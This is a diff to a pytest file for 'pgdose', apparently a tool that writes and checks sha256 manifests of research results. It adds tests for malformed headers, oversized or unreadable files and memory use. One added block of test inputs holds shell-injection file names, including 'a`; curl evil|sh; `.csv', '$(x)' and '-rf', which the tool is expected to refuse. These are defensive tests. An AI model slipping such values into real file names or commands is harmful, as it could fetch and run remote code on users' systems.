@@ -4,13 +4,14 @@ import hashlib
 import random
 import shutil
 import subprocess
+import tracemalloc
 from pathlib import Path
 
 import pytest
 from helpers.results_folder import FILES, FOLDER, THUMBNAILS, finished
 
 from pgdose.errors import UserError
-from pgdose.manifest import document
+from pgdose.manifest import comparison, document, files
 from pgdose.manifest.document import Entry
 from pgdose.manifest.files import MANIFEST
 
@@ -28,7 +29,7 @@ def sealed(body: str) -> bytes:
 
 def manifest(*paths: str, size: int = 5, target: str = "") -> bytes:
     head = "# pgdose manifest, format 1\n# written 2026-11-28T06:33:12Z by pgdose 0.1.0\n"
-    head += f"# {len(paths)} files, {size * len(paths)} bytes\n"
+    head += f"# study phantom\n# {len(paths)} files, {size * len(paths)} bytes\n"
     target = f", target {target}" if target else ""
     return sealed(head + "".join(f"# {size} bytes{target}\n{'a' * 64}  {p}\n" for p in paths))
 
@@ -57,7 +58,7 @@ def test_sha256sum_can_check_it(results: Path) -> None:
 def test_it_names_no_folder_user_or_machine(results: Path) -> None:
     head = (results / MANIFEST).read_text().split("bytes\n")[0]
     assert str(results.parent) not in (results / MANIFEST).read_text()
-    assert [line.split()[1] for line in head.splitlines()] == ["pgdose", "written", "20"]
+    assert [line.split()[1] for line in head.splitlines()] == ["pgdose", "written", "study", "20"]
 
 
 @pytest.mark.parametrize("seed", range(5))
@@ -96,13 +97,26 @@ def test_a_line_edited_by_hand_is_told(results: Path, tmp_path: Path) -> None:
             "manifest.sha256",
             "a/.snakemake_timestamp",
         ),
+        *(  # what a shell, or a person who copies a command, would take for more than a name
+            "tables/a`; curl evil|sh; `.csv",
+            "tables/a b",
+            "tables/$(x)",
+            "-rf",
+            "\u0661",
+        ),
+        *(
+            "a" * 256,
+            "/".join("a" * 33),
+            "/".join(["a" * 200] * 21),
+            "/".join("a" * 100_000),
+        ),
     ],
 )
 def test_it_cannot_lead_out_of_the_results_or_to_what_is_none(tmp_path: Path, path: str) -> None:
     with pytest.raises(UserError, match="which is no file of a results folder"):
         read(tmp_path, manifest(path))
     with pytest.raises(UserError, match="cannot stand in a manifest"):
-        document.write([Entry(path, 1, "a" * 64, path)], tmp_path / MANIFEST)
+        document.write([Entry(path, 1, "a" * 64, path)], tmp_path / MANIFEST, "phantom")
 
 
 @pytest.mark.parametrize("target", ["../x", "/", "b", "a/b/c", "a/b/cd/e"])
@@ -115,6 +129,13 @@ def test_a_target_is_the_file_or_a_folder_above_it(tmp_path: Path, target: str) 
 def test_what_is_made_up_wrongly_is_refused(tmp_path: Path) -> None:
     assert len(read(tmp_path, manifest("a", "b")).entries) == 2
     for content, message in (
+        (manifest(), "it lists no file"),
+        (sealed(manifest("a").decode().rsplit("#", 1)[0].replace("1 files", "١ files")), "form of"),
+        (
+            sealed(manifest("a").decode().rsplit("#", 1)[0].replace("# 5 bytes", "# ٥ bytes")),
+            "form of",
+        ),
+        (sealed(manifest("a").decode().rsplit("#", 1)[0].replace("phantom", "a b")), "form of"),
         (manifest("a", "a"), "lists 'a' twice"),
         (manifest("b", "a"), "out of order"),
         (sealed(""), "form of a manifest"),
@@ -132,7 +153,7 @@ def test_what_is_made_up_wrongly_is_refused(tmp_path: Path) -> None:
 def test_a_huge_one_is_refused_before_it_is_read(tmp_path: Path) -> None:
     with (tmp_path / MANIFEST).open("wb") as file:
         file.truncate(10 * 2**30)
-    with pytest.raises(UserError, match="over 256 MB, so no manifest"):
+    with pytest.raises(UserError, match="over 64 MB, so no manifest"):
         document.read(tmp_path)
 
 
@@ -146,3 +167,60 @@ def test_a_manifest_that_is_no_file_is_told(tmp_path: Path) -> None:
     (tmp_path / MANIFEST).mkdir()
     with pytest.raises(UserError, match="a folder stands in its place"):
         document.read(tmp_path)
+
+
+def test_it_says_of_which_study_it_is(results: Path) -> None:
+    assert document.read(results).study == "phantom"
+    assert document.read(results).title.startswith("manifest.sha256 of study phantom, written 20")
+
+
+def test_a_message_repeats_no_more_than_the_beginning_of_a_path(tmp_path: Path) -> None:
+    with pytest.raises(UserError) as caught:
+        read(tmp_path, manifest("/".join("a" * 100_000)))
+    assert len(str(caught.value)) < 1000
+
+
+def test_a_manifest_that_would_not_be_read_back_is_not_written(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(document, "MOST_BYTES", 1000)
+    entries = [Entry(f"a{i}", 1, "a" * 64, f"a{i}") for i in range(10)]
+    with pytest.raises(UserError, match="manifest of 10 files is larger than"):
+        document.write(entries, tmp_path / MANIFEST, "phantom")
+    document.write(entries[:3], tmp_path / MANIFEST, "phantom")
+    assert document.read(tmp_path).entries == tuple(entries[:3])
+
+
+@pytest.mark.skipif(not Path("/proc/self/mem").exists(), reason="needs /proc")
+def test_a_manifest_that_a_disk_cannot_give_is_a_line(tmp_path: Path) -> None:
+    (tmp_path / MANIFEST).symlink_to("/proc/self/mem")
+    with pytest.raises(UserError, match=r"cannot be read \(Input/output error\); restore it"):
+        document.read(tmp_path)
+
+
+@pytest.mark.skipif(not Path("/proc/self/pagemap").exists(), reason="needs /proc")
+def test_a_file_that_has_no_size_and_no_end_is_not_read_to_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(document, "MOST_BYTES", 2**16)
+    (tmp_path / MANIFEST).symlink_to("/proc/self/pagemap")
+    tracemalloc.start()
+    try:
+        with pytest.raises(UserError, match="so no manifest"):
+            document.read(tmp_path)
+        assert tracemalloc.get_traced_memory()[1] < 2**20
+    finally:
+        tracemalloc.stop()
+    assert files.sha256_of(Path("/proc/self/pagemap"))[0] <= 2**18
+
+
+def test_many_files_take_little_memory(tmp_path: Path) -> None:
+    """The paths of a manifest are held once, and so are their folders."""
+    content = manifest(*(f"a{i:06}/b/c/d/e/f/g/h/i/j/k/l" for i in range(20_000)))
+    (tmp_path / MANIFEST).write_bytes(content)
+    tracemalloc.start()
+    try:
+        comparison.compare(tmp_path, document.read(tmp_path))
+        assert tracemalloc.get_traced_memory()[1] < 40 * len(content)
+    finally:
+        tracemalloc.stop()
